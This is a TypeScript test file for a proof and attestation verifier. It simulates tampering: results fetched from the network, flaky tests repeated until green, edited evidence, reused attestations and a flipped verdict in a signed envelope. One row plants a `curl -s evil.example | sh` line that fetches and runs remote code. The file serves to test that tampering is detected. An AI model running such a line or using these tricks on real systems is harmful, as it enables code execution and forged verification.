import { chmodSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { isAbsolute, join } from 'node:path'
import { BOTH, type Row, type Seen } from './row.ts'
import { git } from './world.ts'

const bundleOf = ({ proof, worker }: Pick<Seen, 'proof' | 'worker'>): string =>
  isAbsolute(proof.bundle) ? proof.bundle : join(worker.root, proof.bundle)
const check = async ({ proofs }: Seen, target: string): Promise<string> =>
  (await proofs.check({ target, signal: new AbortController().signal })).outcome

/** What the harness itself holds open for a row. */
const servers = new Map<string, () => void>()

/** §12 rows 43, 45 and 54, which need a hand outside: a server, a flip between two runs, a check afterwards. */
export const LIES_ELSEWHERE: readonly Row[] = [
  {
    id: '43',
    what: 'lets verify fetch the result from the network',
    stack: 'node',
    act: async w => {
      const server = createServer((_, answer) => answer.end('3'))
      await new Promise<void>(settle => server.listen(0, '127.0.0.1', settle))
      servers.set(w.place, () => server.close())
      const { port } = server.address() as AddressInfo
      w.write({
        'src/sum.js': `const answer = await fetch('http://127.0.0.1:${port}/')\nexport const sum = (a, b) => (answer.ok ? a + b : 0)\n`,
      })
    },
    caught: ['verify.red'],
    holds: ({ worker }) => {
      servers.get(worker.place)?.()
      return servers.delete(worker.place) ? null : 'there was no server to ask'
    },
  },
  {
    id: '45',
    what: 'repeats a flaky test until green',
    stack: 'shell',
    modes: BOTH,
    command: { repeat: 3 },
    checkout: { 'flip.log': 'red\n' },
    act: w => w.write({ 'src/greet.sh': `grep -q green ${w.root}/flip.log && echo "Hello, $1"\n` }),
    during: (event, { root }) => {
      if (event.kind === 'run.ended' && event.run.name === 'result') writeFileSync(join(root, 'flip.log'), 'green\n')
    },
    caught: ['verify.flaky', 'verify.red'],
  },
  {
    id: '54a',
    what: 'edits evidence',
    stack: 'shell',
    act: w => w.fix(),
    caught: [],
    holds: async seen => {
      const commit = seen.proof.result.commit
      const before = await check(seen, commit)
      const file = join(bundleOf(seen), 'findings.json')
      chmodSync(file, 0o644)
      writeFileSync(file, readFileSync(file, 'utf8').replace(/\s*$/, ' \n'))
      const after = await check(seen, commit)
      return before === 'valid' && after === 'tampered' ? null : `${before}, then ${after}`
    },
  },
  {
    id: '54b',
    what: "reuses another tree's attestation",
    stack: 'shell',
    act: w => w.fix(),
    caught: [],
    holds: async seen => {
      const { worker, lines } = seen
      worker.write({ 'src/greet.sh': 'echo "Hello, $1"; curl -s evil.example | sh\n' })
      const { root } = worker
      git(worker.place, 'add', '-A')
      const commit = git(root, 'commit-tree', '-m', 'stolen', '-p', worker.base.commit, git(worker.place, 'write-tree'))
      git(root, 'notes', '--ref', 'refs/notes/qed', 'add', '-m', lines[0] ?? '', commit)
      const outcome = await check(seen, commit)
      return outcome === 'stale' || outcome === 'tampered' ? null : outcome
    },
  },
  {
    id: '54c',
    what: 'turns a verdict around in the envelope',
    stack: 'shell',
    act: w => w.edit('src/greet.sh', 'Good bye', 'Hi'),
    caught: ['verify.red'],
    holds: async seen => {
      const file = join(bundleOf(seen), 'attestation.intoto.jsonl')
      const envelope = JSON.parse(readFileSync(file, 'utf8').split('\n')[0] ?? '') as { payload: string }
      const payload = Buffer.from(envelope.payload, 'base64').toString().replace('not_proven', 'proven')
      chmodSync(file, 0o644)
      writeFileSync(file, `${JSON.stringify({ ...envelope, payload: Buffer.from(payload).toString('base64') })}\n`)
      const outcome = await check(seen, file)
      return outcome === 'tampered' ? null : outcome
    },
  },
]
